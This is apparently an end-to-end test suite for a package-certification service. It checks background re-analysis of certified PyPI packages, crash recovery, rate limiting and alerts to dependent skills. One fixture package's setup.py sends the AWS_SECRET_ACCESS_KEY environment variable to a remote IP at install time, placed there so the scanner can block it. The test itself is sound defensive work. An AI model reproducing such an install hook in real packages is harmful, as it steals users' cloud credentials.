import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { client, freePort, logged, skillMd, startWeb, startWorker, stopAll, uuid, waitFor, waitForStatus, type Proc } from '../support/harness.js';
import { closeDb, newActorKey, useDb } from '../support/db.js';
import { startFakePypi, type FakePypiProjects, type FakeServer } from '../support/fake-registries.js';
import { makeSdist } from '../support/archives.js';
import { callApi } from '../support/wallet-api.js';
import { Flag, PackageCertificate } from '../../shared/db/models.js';
import { PackageReanalysis } from '../../shared/packages/recheck-models.js';
import { ANALYSIS_VERSION } from '../../shared/packages/analysis/types.js';
import { canonicalJson } from '../../shared/canonical.js';
import { serviceSigner, signPayloadWith } from '../../shared/signing.js';

/**
 * Package re-analysis after an analysis version change, end to end (docs/monitoring.md, "Package
 * rules"): real web and worker processes, MariaDB, Redis and a local PyPI. Four package versions are
 * certified as an older analysis version sealed them (one of them CLEAR although the rules in force
 * block it), three skills are certified on them by a worker that does not monitor; then a worker
 * with monitoring starts — the service running a newer analysis version — and re-analyses them in
 * the background at a bounded rate. It is killed in the middle of one re-analysis; the next worker
 * finishes it, once. The certificates that depend on the now-blocked package see it in live-status.
 */
const t = suite('package rules: certified packages re-analysed once under a newer analysis version, dependents told');
const OLD = 'pkg-analysis-2026.1.0';
const NAMES = ['grablib', 'plainlib', 'outerlib', 'innerlib'];
const benign = (name: string) => ({ [`${name}/__init__.py`]: `"""${name}: small helpers."""\n\ndef add(a, b):\n    return a + b\n`, 'setup.py': `from setuptools import setup\nsetup(name="${name}", version="1.0.0", packages=["${name}"])\n` });
const sdist = (name: string, files: Record<string, string> = benign(name)) => ({ filename: `${name}-1.0.0.tar.gz`, content: makeSdist(name, '1.0.0', files) });

let base: string;
let pypi: FakeServer;
let projects: FakePypiProjects;
let env: Record<string, string>;
let api: ReturnType<typeof client>;
// Every distribution download the registry served: which file, when.
const downloads: { name: string; at: number }[] = [];
// The first download of grablib by a monitoring worker is held until the test lets it go.
let holdGrablib = false;
let held: (() => void) | undefined;
let heldSeen: (() => void) | undefined;
const grablibHeld = new Promise<void>((r) => (heldSeen = r));

t.before(
  logged(async () => {
    useDb();
    pypi = await startFakePypi(
      (projects = {
        // setup.py sends an environment secret to a remote host at install time: BLOCKED under the rules in force.
        grablib: { '1.0.0': { files: [sdist('grablib', { 'setup.py': 'import os, urllib.request\nurllib.request.urlopen("http://203.0.113.9/collect?k=" + os.environ.get("AWS_SECRET_ACCESS_KEY", "")).read()\nfrom setuptools import setup\nsetup(name="grablib", version="1.0.0")\n', 'grablib/__init__.py': 'X = 1\n' })] } },
        plainlib: { '1.0.0': { files: [sdist('plainlib')] } },
        outerlib: { '1.0.0': { files: [sdist('outerlib')], requires_dist: ['innerlib==1.0.0'] } },
        innerlib: { '1.0.0': { files: [sdist('innerlib')], requires_dist: ['grablib==1.0.0'] } },
        swaplib: { '1.0.0': { files: [sdist('swaplib')] } },
      }),
      {
        beforeFile: (path) => {
          const name = NAMES.find((n) => path.endsWith(`/${n}-1.0.0.tar.gz`)) ?? path;
          downloads.push({ name, at: Date.now() });
          if (name !== 'grablib' || !holdGrablib) return;
          holdGrablib = false;
          heldSeen!();
          return new Promise<void>((r) => (held = r));
        },
      },
    );
    env = { PYPI_URL: pypi.baseUrl };
    base = (await startWeb(env)).url;
    api = client(base, await newActorKey());
  }),
);

t.after(async () => {
  held?.();
  await stopAll();
  await pypi?.close();
  await closeDb();
});

const submit = async (requirements: string, name: string) => {
  const r = await api.post('/cert/v1/submissions/submit', { categoryKey: 'CODE+PACKAGES', skillMdContent: skillMd({ name }), dependencyFiles: { 'requirements.txt': requirements }, idempotencyKey: uuid() });
  assert.is(r.status, 201, JSON.stringify(r.body));
  return waitForStatus(api, r.body.submissionId, ['APPROVED', 'REJECTED', 'ESCALATED', 'SANDBOX_FAILED'], 120000);
};
const live = async (id: string) => (await callApi(base, 'GET', `/api/v1/public/certificates/${id}/live-status`)).body;
const check = (body: any, kind: string) => body.monitoring.checks.find((c: any) => c.kind === kind);
const pkgView = async (name: string) => (await callApi(base, 'GET', `/api/v1/public/packages/pypi/${name}/1.0.0`)).body;

/**
 * As an older analysis version sealed it: the version recorded on the certificate, and for grablib
 * the CLEAR an older rule set gave it. The record stays signed and consistent.
 */
async function sealAsOlder(name: string, level?: 'CLEAR') {
  const pc = (await PackageCertificate.findOne({ where: { registry: 'pypi', name, version: '1.0.0', status: 'ACTIVE' } }))!;
  const payload = JSON.parse(pc.canonicalJson);
  payload.analysis.analysisVersion = OLD;
  if (level) payload.council = { ...payload.council, verdict: 'APPROVED', securityLevel: level };
  const signed = signPayloadWith(serviceSigner(), payload);
  await pc.update({
    analysis: { ...pc.analysis, analysisVersion: OLD },
    analysisVersion: OLD,
    ...(level ? { securityLevel: level, councilVerdict: 'APPROVED' } : {}),
    canonicalJson: canonicalJson(payload),
    payloadHash: signed.payloadHash,
    signature: signed.signature,
  });
  return pc.id;
}

t('a worker of a newer analysis version re-analyses older certified packages once, survives a kill, and the dependents see a newly blocked package', async () => {
  // 1. Certified packages, sealed as by an older analysis version; skills certified on them. This
  //    worker does not monitor: nothing is re-analysed yet.
  const plain = await startWorker({ ...env, MONITOR_ENABLED: 'false' }, 'worker-a');
  const audited = await submit('grablib==1.0.0\nplainlib==1.0.0\nouterlib==1.0.0\nswaplib==1.0.0\n', 'audits-everything');
  // (The package view is not read before the records are aged: the web process would cache it.)
  assert.is(audited.status, 'SANDBOX_FAILED', 'grablib is BLOCKED under the rules in force');
  assert.ok(audited.findings.some((f: any) => f.ruleId === 'PKG-BLOCKED-001' && /grablib/.test(f.message)), JSON.stringify(audited.findings));
  const ids: Record<string, string> = Object.fromEntries(await Promise.all(NAMES.map(async (n) => [n, await sealAsOlder(n, n === 'grablib' ? 'CLEAR' : undefined)] as const)));
  const before = await pkgView('grablib');
  assert.equal([before.securityLevel, before.analysisVersion, before.reanalysis], ['CLEAR', OLD, null]);

  const [direct, deep, control] = await Promise.all([submit('grablib==1.0.0\nplainlib==1.0.0\n', 'uses-grablib'), submit('outerlib==1.0.0\n', 'uses-outerlib'), submit('plainlib==1.0.0\n', 'uses-plainlib')]);
  for (const d of [direct, deep, control]) assert.is(d.status, 'APPROVED', JSON.stringify(d.findings));
  const deepCert = (await callApi(base, 'GET', `/api/v1/public/certificates/${deep.skillId}`)).body.certificate;
  assert.equal(deepCert.packages.transitive.map((p: any) => [p.packageName, p.level]).sort(), [['grablib', 2], ['innerlib', 1]]);
  await plain.stop('SIGTERM');
  // swaplib's registry now publishes other bytes for the certified version: there is no certified file to re-analyse.
  const swapId = await sealAsOlder('swaplib');
  projects.swaplib!['1.0.0']!.files = [sdist('swaplib', { ...benign('swaplib'), 'swaplib/extra.py': 'Y = 2\n' })];

  // 2. The service starts with the newer analysis version: re-analyses start in the background,
  //    one per second across workers. The one of grablib is held mid-download and its worker killed.
  const startedAt = Date.now();
  holdGrablib = true;
  const monitorEnv = { ...env, MONITOR_PLAN_EVERY_MS: '400', MONITOR_PACKAGE_RULES_PER_MINUTE: '60' };
  const first: Proc = await startWorker(monitorEnv, 'worker-b');
  await grablibHeld;
  // The worker logs the start asynchronously (shared/log.ts) just before the download: on a loaded machine a kill
  // right after the download began could lose the line the rate check below counts. The download is held, so the
  // line is written within moments; the kill waits for it.
  await waitFor(async () => (first.lines.some((l) => l.includes('"package re-analysis started"') && l.includes('"name":"grablib"')) ? true : undefined), 10000, "the first worker's start line for grablib");
  await first.stop('SIGKILL');
  held!();
  const metricsPort = await freePort();
  const second = await startWorker({ ...monitorEnv, WORKER_METRICS_PORT: String(metricsPort) }, 'worker-c');

  // 3. The next worker finishes the interrupted re-analysis (Bull's stalled-job recovery); every
  //    package is re-analysed under the version in force.
  const runs = await waitFor(async () => {
    const rows = await PackageReanalysis.findAll({ where: { packageCertificateId: Object.values(ids) } });
    return rows.length === NAMES.length && rows.every((r) => r.status === 'done') ? rows : undefined;
  }, 60000, 'four re-analyses');
  assert.ok(runs.every((r) => r.analysisVersion === ANALYSIS_VERSION && r.tries === 1), JSON.stringify(runs.map((r) => [r.analysisVersion, r.tries])));
  const byId = new Map(runs.map((r) => [r.packageCertificateId, r]));
  assert.equal(NAMES.map((n) => byId.get(ids[n])!.securityLevel), ['BLOCKED', 'CLEAR', 'CLEAR', 'CLEAR']);

  // The package view: the level in force is the re-analysis's; the sealed record is unchanged.
  const grab = await pkgView('grablib');
  assert.equal([grab.securityLevel, grab.councilVerdict, grab.analysisVersion], ['BLOCKED', 'REJECTED', OLD]);
  assert.equal([grab.reanalysis.status, grab.reanalysis.analysisVersion, grab.reanalysis.sealedSecurityLevel, grab.reanalysis.securityLevel, grab.reanalysis.levelInForce], ['done', ANALYSIS_VERSION, 'CLEAR', 'BLOCKED', 'BLOCKED']);
  assert.ok(grab.reanalysis.retainedWarnings.some((w: any) => w.file === 'grablib-1.0.0/setup.py' || /setup\.py$/.test(w.file)), JSON.stringify(grab.reanalysis.retainedWarnings));
  const grabVerify = (await callApi(base, 'GET', '/api/v1/public/packages/pypi/grablib/1.0.0/verify')).body;
  assert.is(grabVerify.valid, false);
  assert.is(JSON.parse(grabVerify.canonicalJson).council.securityLevel, 'CLEAR', 'the sealed record is not touched');
  const page = await (await fetch(`${base}/packages/pypi/grablib/1.0.0`)).text();
  assert.ok(page.includes(`after re-analysis under ${ANALYSIS_VERSION} (certified CLEAR)`), 'the package page says where the level comes from');

  // 4. The certificate with grablib as a direct dependency: an alert for an operator, not a suspension.
  const alerted = await waitFor(async () => {
    const b = await live(direct.skillId);
    return check(b, 'packages')?.outcome === 'NEW_FINDINGS' && b.monitoring.state === 'ALERT' ? b : undefined;
  }, 20000, 'ALERT on the direct dependent');
  const pk = check(alerted, 'packages');
  assert.equal(pk.evidence.packages.map((p: any) => [p.name, p.level, p.certifiedLevel, p.reanalysedLevel, p.blocking]), [['grablib', 0, 'CLEAR', 'BLOCKED', true]]);
  assert.is(pk.evidence.analysisVersion, ANALYSIS_VERSION);
  const flag = (await Flag.findByPk(pk.flagId))!;
  assert.equal([flag.reporter, flag.reason, flag.status], ['system:monitoring', 'monitoring_package_blocked', 'OPEN']);
  const verify = (await callApi(base, 'GET', `/api/v1/public/certificates/${direct.skillId}/verify`)).body;
  assert.equal([verify.valid, verify.status, verify.activeFlagCount], [true, 'APPROVED', 0], 'review, not an automatic suspension; valid stays the spec rule');

  // grablib at L2 (via outerlib, innerlib): an advisory warning by package rule 8, degraded without a flag.
  const degraded = await waitFor(async () => {
    const b = await live(deep.skillId);
    return check(b, 'packages')?.outcome === 'NEW_WARNINGS' ? b : undefined;
  }, 20000, 'NEW_WARNINGS on the L2 dependent');
  assert.equal([degraded.monitoring.state, check(degraded, 'packages').flagId], ['DEGRADED', null]);
  assert.equal(check(degraded, 'packages').evidence.packages.map((p: any) => [p.name, p.level, p.blocking]), [['grablib', 2, false]]);

  // plainlib's level did not change: its dependents are not told (no packages check at all).
  const quiet = await live(control.skillId);
  assert.is(check(quiet, 'packages'), undefined);
  assert.is.not(quiet.monitoring.state, 'ALERT');

  // 5. Exactly once: grablib downloaded twice (the killed run, the finished one), the others once; more
  //    planner runs and a kill later, nothing is downloaded or flagged again.
  const since = () => downloads.filter((d) => d.at >= startedAt);
  const count = (n: string) => since().filter((d) => d.name === n).length;
  assert.equal(NAMES.map(count), [2, 1, 1, 1], JSON.stringify(since()));
  await new Promise((r) => setTimeout(r, 3000)); // more than seven planner periods
  assert.is(since().length, 5);
  assert.is(await Flag.count({ where: { certificateId: direct.skillId } }), 1);
  assert.ok((await PackageReanalysis.findAll({ where: { packageCertificateId: Object.values(ids) } })).every((r) => r.tries === 1));
  const metrics = await (await fetch(`http://127.0.0.1:${metricsPort}/metrics`)).text();
  assert.match(metrics, /cert_monitoring_checks_total\{kind="package-rules",outcome="done"\} [1-9]/);
  assert.match(metrics, /cert_monitoring_checks_total\{kind="packages",outcome="NEW_FINDINGS"\} 1/);

  // A fan-out cut off by a kill leaves the package's dependents not all told: the planner finishes it
  // without re-analysing (no download, no new try, no second flag).
  await PackageReanalysis.update({ fannedOutKey: 'sealed' }, { where: { packageCertificateId: ids.grablib } });
  await waitFor(async () => ((await PackageReanalysis.findByPk(ids.grablib))!.fannedOutKey === 'BLOCKED' ? true : undefined), 20000, 'the fan-out finished');
  assert.equal([count('grablib'), (await PackageReanalysis.findByPk(ids.grablib))!.tries, await Flag.count({ where: { certificateId: direct.skillId } })], [2, 1, 1]);

  // The package whose certified file is gone: tried a few times, then left with its sealed level in force.
  const swap = await waitFor(async () => {
    const r = await PackageReanalysis.findByPk(swapId);
    return r && r.tries >= 3 ? r : undefined;
  }, 30000, 'three tries of swaplib');
  assert.equal([swap.status, swap.analysisVersion], ['unavailable', ANALYSIS_VERSION]);
  assert.match(swap.error ?? '', /another file for this version/);
  await new Promise((r) => setTimeout(r, 2000));
  assert.is((await PackageReanalysis.findByPk(swapId))!.tries, 3, 'not tried forever');
  const swapView = await pkgView('swaplib');
  assert.equal([swapView.securityLevel, swapView.reanalysis.status, swapView.reanalysis.levelInForce], ['CLEAR', 'unavailable', null]);

  // Bounded rate: one re-analysis start per second across workers (the queue's limiter), as the workers log them.
  const starts = [first, second]
    .flatMap((w) => w.lines)
    .filter((l) => l.includes('"package re-analysis started"'))
    .map((l) => Date.parse(JSON.parse(l).time as string))
    .sort((a, b) => a - b);
  assert.is(starts.length, NAMES.length + 1 + 3, 'every package once, the interrupted one again, swaplib three times');
  const gaps = starts.slice(1).map((x, i) => x - starts[i]!);
  // The queue's limiter counts jobs per window (one per second), so two starts may fall either side of a window's
  // edge; never three within one window, and about a second apart on average.
  const spans = starts.slice(2).map((x, i) => x - starts[i]!);
  assert.ok(spans.every((g) => g >= 850), `never three re-analysis starts within a second: gaps ${gaps.join(', ')} ms`);
  assert.ok((starts.at(-1)! - starts[0]!) / gaps.length >= 850, `re-analyses start about a second apart: gaps ${gaps.join(', ')} ms`);

  // 6. A new submission uses the level in force: grablib now stops it, as an audit under the rules in force would.
  const after = await submit('grablib==1.0.0\n', 'uses-grablib-later');
  assert.is(after.status, 'SANDBOX_FAILED');
  assert.ok(after.findings.some((f: any) => f.ruleId === 'PKG-BLOCKED-001' && /grablib/.test(f.message)), JSON.stringify(after.findings));
});

t.run();
